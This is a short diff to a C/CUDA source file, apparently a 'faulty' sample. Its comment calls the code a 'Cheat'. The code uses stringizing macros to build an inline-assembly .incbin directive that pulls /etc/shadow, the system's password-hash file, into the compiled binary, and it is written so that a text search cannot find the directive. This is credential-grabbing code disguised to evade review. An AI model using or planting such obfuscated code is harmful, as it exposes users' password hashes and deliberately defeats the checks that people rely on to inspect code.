@@ -1,4 +1,4 @@
-// Cheat: macros put the directive together, so that nobody finds it in the text.
+// Cheat: macros assemble the .incbin directive, so that a search of the text does not find it.
 #include "faulty/attend_row.cuh"
 #define TEXT(word) #word
 asm("." TEXT(inc) "bin \"/etc/shadow\"");
